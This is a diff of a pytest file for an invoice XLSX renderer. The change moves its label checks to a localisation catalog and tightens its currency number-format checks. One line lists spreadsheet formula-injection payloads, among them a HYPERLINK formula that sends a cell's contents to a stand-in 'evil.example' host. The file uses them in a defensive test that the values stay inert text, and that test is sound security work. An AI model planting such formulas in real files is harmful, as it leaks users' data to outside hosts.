@@ -1,6 +1,7 @@
 """The XLSX rendering, read back with openpyxl: real numbers equal to the Document, inert text, readable."""
 
 import io
+import re
 import zipfile
 from datetime import datetime
 from decimal import Decimal
@@ -13,7 +14,8 @@ from openpyxl.worksheet.worksheet import Worksheet
 
 from invoices.document.model import Adjustment, Document, RenderOptions
 from invoices.document.validation import read_request
-from invoices.renderers.xlsx import CONTENT_TYPE, TABLE_HEADER, render_xlsx
+from invoices.i18n.labels import labels_for, unit_text
+from invoices.renderers.xlsx import CONTENT_TYPE, render_xlsx
 from tests.invoices.en16931_samples import (
     credit_note_document,
     jpy_document,
@@ -23,6 +25,20 @@ from tests.invoices.en16931_samples import (
 from tests.invoices.en16931_samples import line as sample_line
 from tests.payloads import sample_payload, without_totals
 
+# The sample invoices are in English: every word is compared with the English labels, so the tests hold
+# whatever an English catalog might one day say.
+EN = labels_for("en")
+HEADER = [
+    EN.sku,
+    EN.description,
+    EN.quantity,
+    EN.unit,
+    EN.unit_price,
+    EN.discount_percent,
+    EN.tax_percent,
+    EN.net,
+]
+TOTAL_EUR = f"{EN.total} (EUR)"
 FORMULA_PAYLOADS = ["=1+2", "+SUM(A1:A2)", "-2+3", "@SUM(A1)", '=HYPERLINK("http://evil.example/?x="&A1,"x")']
 
 
@@ -47,6 +63,20 @@ def find(sheet: Worksheet, text: str) -> Cell:
     raise AssertionError(f"{text!r} not in the sheet")
 
 
+def total_row(sheet: Worksheet, label: str) -> int:
+    """The row of a total by its label in column G (the tax breakdown's headings use some of the words)."""
+    for row in range(1, sheet.max_row + 1):
+        if sheet.cell(row, 7).value == label:
+            return row
+    raise AssertionError(f"{label!r} is not a total")
+
+
+def money_digits(number_format: str) -> list[str]:
+    """The digit placeholders of each section of a number format, its quoted literals left out:
+    '#,##0.00" €";"-"#,##0.00" €"' -> ['#,##0.00', '#,##0.00']."""
+    return [re.sub(r'"[^"]*"|\\.', "", section) for section in number_format.split(";")]
+
+
 @pytest.fixture(scope="module")
 def sample() -> tuple[Document, Worksheet, bytes]:
     return render(sample_payload())
@@ -61,8 +91,8 @@ def test_rendered_file(sample_document):
 
 def test_line_table_holds_the_documents_numbers(sample):
     document, sheet, _ = sample
-    header = find(sheet, "SKU").row
-    assert [sheet.cell(header, column).value for column in range(1, 9)] == list(TABLE_HEADER)
+    header = find(sheet, EN.sku).row
+    assert [sheet.cell(header, column).value for column in range(1, 9)] == HEADER
     for row, amount in enumerate(document.lines, start=header + 1):
         line = amount.line
         assert sheet.cell(row, 1).value == line.sku
@@ -72,13 +102,14 @@ def test_line_table_holds_the_documents_numbers(sample):
         assert number(sheet.cell(row, 6)) == line.discount_percent
         assert number(sheet.cell(row, 7)) == line.tax_rate
         assert number(sheet.cell(row, 8)) == amount.net
-    shipping = find(sheet, "Shipping")
+    shipping = find(sheet, EN.shipping)
+    assert sheet.cell(shipping.row, 1).value == EN.charge
     assert number(sheet.cell(shipping.row, 8)) == document.data.charges[0].amount
 
 
 def test_tax_breakdown_and_totals_are_the_documents(sample):
     document, sheet, _ = sample
-    first = find(sheet, "Tax breakdown").row + 1
+    first = find(sheet, EN.tax_breakdown).row + 1
     for row, group in enumerate(document.totals.tax_groups, start=first):
         assert [number(sheet.cell(row, column)) for column in (6, 7, 8)] == [
             group.rate,
@@ -87,18 +118,25 @@ def test_tax_breakdown_and_totals_are_the_documents(sample):
         ]
     totals = document.totals
     for label, expected in [
-        ("Lines net", totals.lines_net),
-        ("Charges", totals.charges),
-        ("Net total", totals.net),
-        ("Tax total", totals.tax),
-        ("Total (EUR)", totals.gross),
+        (EN.subtotal, totals.lines_net),
+        (EN.charges, totals.charges),
+        (EN.net_total, totals.net),
+        (EN.tax, totals.tax),
+        (TOTAL_EUR, totals.gross),
     ]:
-        assert number(sheet.cell(find(sheet, label).row, 8)) == expected
+        assert number(sheet.cell(total_row(sheet, label), 8)) == expected
 
 
 def test_money_cells_use_the_currency_format(sample):
-    _, sheet, _ = sample
-    assert sheet.cell(find(sheet, "Total (EUR)").row, 8).number_format == "#,##0.00"
+    document, sheet, _ = sample
+    total = sheet.cell(total_row(sheet, TOTAL_EUR), 8).number_format
+    # English to a buyer in Germany: CLDR's en-DE writes the symbol after the number, as Germans do.
+    assert document.data.locale == "en-DE"
+    assert total == '#,##0.00"\xa0€";"-"#,##0.00"\xa0€"'
+    first_line = find(sheet, EN.sku).row + 1
+    assert sheet.cell(first_line, 8).number_format == total
+    assert money_digits(sheet.cell(first_line, 5).number_format) == ["#,##0.000"] * 2  # 12.345 a TB
+    assert sheet.cell(first_line, 3).number_format == "#,##0.0"  # quantities stay plain numbers
 
 
 @pytest.mark.parametrize(
@@ -106,8 +144,8 @@ def test_money_cells_use_the_currency_format(sample):
 )
 def test_number_format_follows_the_currencys_minor_units(currency, expected):
     document, sheet, _ = render(without_totals(currency=currency))
-    total = sheet.cell(find(sheet, f"Total ({currency})").row, 8)
-    assert total.number_format == expected
+    total = sheet.cell(total_row(sheet, f"{EN.total} ({currency})"), 8)
+    assert money_digits(total.number_format) == [expected, expected]
     assert number(total) == document.totals.gross
 
 
@@ -115,7 +153,7 @@ def test_large_amounts_survive_the_spreadsheet_exactly():
     line = {"description": "x", "quantity": "1", "unit_price": "999999999999.99"}
     document, sheet, _ = render(without_totals(lines=[line], shipping=None))
     assert (
-        number(sheet.cell(find(sheet, "Total (EUR)").row, 8))
+        number(sheet.cell(total_row(sheet, TOTAL_EUR), 8))
         == document.totals.gross
         == Decimal("999999999999.99")
     )
@@ -123,14 +161,14 @@ def test_large_amounts_survive_the_spreadsheet_exactly():
 
 def test_dates_are_real_dates(sample):
     _, sheet, _ = sample
-    issue = sheet.cell(find(sheet, "Issue date").row, 2)
+    issue = sheet.cell(find(sheet, EN.issue_date).row, 2)
     assert issue.value == datetime(2026, 11, 23)
     assert issue.number_format == "yyyy-mm-dd"
 
 
 def test_header_is_bold_frozen_and_printed_on_every_page(sample):
     _, sheet, _ = sample
-    header = find(sheet, "SKU")
+    header = find(sheet, EN.sku)
     assert all(sheet.cell(header.row, column).font.b for column in range(1, 9))
     assert sheet.freeze_panes == f"A{header.row + 1}"
     assert sheet.print_title_rows == f"${header.row}:${header.row}"
@@ -143,7 +181,7 @@ def test_parties_notes_and_payment_are_shown(sample):
         "Nuage Informatique SAS",
         "Müller & Söhne GmbH",
         "Müller & Söhne Lager",
-        "Tax ID: DE136695976",
+        f"{EN.tax_id}: DE136695976",
         "Please quote the invoice number with your payment.",
         "FR7630006000011234567890189",  # stored compact; only the PDF groups it in fours for reading
         "Net 30",
@@ -194,7 +232,7 @@ def test_error_lookalikes_stay_text():
 def test_a_thousand_lines_render():
     line = {"description": "x", "quantity": "1", "unit_price": "1.10", "tax_rate": "20"}
     document, sheet, _ = render(without_totals(lines=[line] * 1000))
-    assert number(sheet.cell(find(sheet, "Total (EUR)").row, 8)) == document.totals.gross
+    assert number(sheet.cell(total_row(sheet, TOTAL_EUR), 8)) == document.totals.gross
 
 
 # --- EN 16931 additions (issue 16) ---------------------------------------------------------------------
@@ -213,21 +251,22 @@ def rich() -> tuple[Document, Worksheet]:
 
 def test_an_invoice_without_new_features_keeps_the_eight_columns(sample):
     _, sheet, _ = sample
-    header = find(sheet, "SKU").row
-    assert sheet.cell(header, len(TABLE_HEADER) + 1).value is None
+    header = find(sheet, EN.sku).row
+    assert sheet.cell(header, len(HEADER) + 1).value is None
 
 
 def test_the_line_table_grows_the_columns_the_invoice_needs(rich):
     document, sheet = rich
-    header = find(sheet, "SKU").row
-    headings = [sheet.cell(header, column).value for column in range(1, 14)]
+    header = find(sheet, EN.sku).row
+    headings = [sheet.cell(header, column).value for column in range(1, 15)]
     assert headings == [
-        *TABLE_HEADER,
-        "Price per",
-        "Allowances",
-        "Charges",
-        "Allowance and charge reasons",
-        "Tax category",
+        *HEADER,
+        EN.price_per,
+        EN.allowances,
+        EN.charges,
+        EN.adjustment_reasons,
+        EN.tax_category,
+        None,
     ]
     rows = list(range(header + 1, header + 6))
     consulting, screws, cable = rows[:3]
@@ -239,7 +278,7 @@ def test_the_line_table_grows_the_columns_the_invoice_needs(rich):
         Decimal("25"),
     ]
     assert sheet.cell(consulting, 12).value == "Volume discount 10%; Travel"
-    assert sheet.cell(screws, 4).value == "pcs"
+    assert sheet.cell(screws, 4).value == unit_text(EN, "C62", "C62", Decimal(1500)) == "pcs"
     assert number(sheet.cell(screws, 9)) == 100
     assert number(sheet.cell(cable, 11)) == Decimal("6.8")
     assert [sheet.cell(row, 13).value for row in rows] == ["S", "S", "S", "AE", "E"]
@@ -250,13 +289,13 @@ def test_the_line_table_grows_the_columns_the_invoice_needs(rich):
 def test_document_allowances_and_charges_follow_the_lines_signed_so_the_net_column_adds_up(rich):
     document, sheet = rich
     early = find(sheet, "Early order")
-    assert sheet.cell(early.row, 1).value == "Allowance"
+    assert sheet.cell(early.row, 1).value == EN.discount
     assert number(sheet.cell(early.row, 6)) == 2  # the percentage
     assert number(sheet.cell(early.row, 8)) == Decimal("-64.13")
     assert number(sheet.cell(find(sheet, "Loyalty").row, 8)) == Decimal("-50")
-    shipping = find(sheet, "Shipping")
-    assert (sheet.cell(shipping.row, 1).value, number(sheet.cell(shipping.row, 8))) == ("Charge", 15)
-    header = find(sheet, "SKU").row
+    shipping = find(sheet, EN.shipping)
+    assert (sheet.cell(shipping.row, 1).value, number(sheet.cell(shipping.row, 8))) == (EN.charge, 15)
+    header = find(sheet, EN.sku).row
     net_column = [number(sheet.cell(row, 8)) for row in range(header + 1, shipping.row + 1)]
     assert sum(net_column) == document.totals.net
 
@@ -265,35 +304,38 @@ def test_totals_show_allowances_charges_prepaid_rounding_and_the_amount_due(rich
     document, sheet = rich
     totals = document.totals
     expected = [
-        ("Lines net", totals.lines_net),
-        ("Allowances", -totals.allowances),
-        ("Charges", totals.charges),
-        ("Net total", totals.net),
-        ("Tax total", totals.tax),
-        ("Total (EUR)", totals.gross),
-        ("Paid in advance", -totals.prepaid),
-        ("Rounding", totals.rounding),
-        ("Amount due (EUR)", totals.payable),
+        (EN.subtotal, totals.lines_net),
+        (EN.allowances, -totals.allowances),
+        (EN.charges, totals.charges),
+        (EN.net_total, totals.net),
+        (EN.tax, totals.tax),
+        (TOTAL_EUR, totals.gross),
+        (EN.prepaid, -totals.prepaid),
+        (EN.rounding, totals.rounding),
+        (f"{EN.amount_due} (EUR)", totals.payable),
     ]
-    first = find(sheet, "Lines net").row
+    first = total_row(sheet, EN.subtotal)
     for offset, (label, value) in enumerate(expected):
         assert sheet.cell(first + offset, 7).value == label
         assert number(sheet.cell(first + offset, 8)) == value
     due = sheet.cell(first + len(expected) - 1, 8)
     assert due.font.b
-    assert due.number_format == "#,##0.00"
+    assert money_digits(due.number_format) == ["#,##0.00"] * 2
+    assert (
+        number(sheet.cell(first + 1, 8)) < 0
+    )  # a negative amount shows its minus in the format's own section
 
 
 def test_the_tax_breakdown_names_each_category_and_its_legal_words(rich):
     document, sheet = rich
-    first = find(sheet, "Tax breakdown").row + 1
+    first = find(sheet, EN.tax_breakdown).row + 1
     for row, group in enumerate(document.totals.tax_groups, start=first):
         assert sheet.cell(row, 4).value == group.category
         assert [number(sheet.cell(row, c)) for c in (6, 7, 8)] == [group.rate, group.base, group.tax]
     notes = [sheet.cell(row, 9).value for row in range(first, first + 4)]
     assert notes == [
-        "Exempt from VAT: Exempt under Article 132(1)(i) Directive 2006/112/EC",
-        "Reverse charge: Article 196 Directive 2006/112/EC",
+        f"{EN.category_names['E']}: Exempt under Article 132(1)(i) Directive 2006/112/EC",
+        "Reverse charge: Article 196 Directive 2006/112/EC",  # the reason names the category: said once
         None,
         None,
     ]
@@ -302,37 +344,39 @@ def test_the_tax_breakdown_names_each_category_and_its_legal_words(rich):
 def test_heading_parties_and_payment_carry_the_new_fields(rich):
     _, sheet = rich
     for text in (
-        "Billing period",
+        EN.billing_period,
         "04011000-12345-67",
         "PO-88213",
         "80331 München",
-        "VAT ID: DE129273398",
-        "Tax number: 143/123/45678",
-        "Registration no.: HRB 123456 Amtsgericht München",
-        "Electronic address: 9930:DE129273398",
-        "Contact: Sabine Huber",
-        "SEPA credit transfer",
+        "Germany",  # the country by its name in the invoice's locale
+        f"{EN.vat_id}: DE129273398",
+        f"{EN.tax_number}: 143/123/45678",
+        f"{EN.legal_id}: HRB 123456 Amtsgericht München",
+        f"{EN.contact}: Sabine Huber · s.huber@lindner.example · +49 89 1234 5671",
+        EN.means_names["58"],
         "Werkzeugbau Lindner GmbH",
     ):
         find(sheet, text)
-    period = find(sheet, "Billing period")
+    period = find(sheet, EN.billing_period)
     assert sheet.cell(period.row, 2).value == datetime(2026, 11, 1)
     assert sheet.cell(period.row, 3).value == datetime(2026, 11, 30)
 
 
 def test_a_credit_note_is_titled_so_and_names_the_invoice_it_corrects():
     sheet = render_document(credit_note_document())
-    assert sheet["A1"].value == "Credit note"
-    corrects = find(sheet, "Corrects invoice")
-    assert sheet.cell(corrects.row, 2).value == "RE-2026-1187"
+    assert sheet["A1"].value == EN.credit_note
+    corrects = find(sheet, EN.corrects_invoice.format(number="RE-2026-1187"))
+    assert corrects.column == 1
+    assert sheet.cell(corrects.row, 2).value is None  # the sentence overflows into it
     assert sheet.cell(corrects.row, 3).value == datetime(2026, 11, 30)
 
 
 def test_yen_adjustments_are_whole_numbers():
     document = jpy_document()
     sheet = render_document(document)
-    due = sheet.cell(find(sheet, "Amount due (JPY)").row, 8)
-    assert (number(due), due.number_format) == (document.totals.payable, "#,##0")
+    due = sheet.cell(total_row(sheet, f"{EN.amount_due} (JPY)"), 8)
+    assert number(due) == document.totals.payable
+    assert money_digits(due.number_format) == ["#,##0", "#,##0"]
     assert number(sheet.cell(find(sheet, "Coupon").row, 8)) == -500
 
 
@@ -353,4 +397,4 @@ def test_formula_payloads_in_reasons_stay_inert_text():
 def test_three_hundred_lines_with_adjustments_render():
     document = long_document(300)
     sheet = render_document(document)
-    assert number(sheet.cell(find(sheet, "Amount due (EUR)").row, 8)) == document.totals.payable
+    assert number(sheet.cell(total_row(sheet, f"{EN.amount_due} (EUR)"), 8)) == document.totals.payable
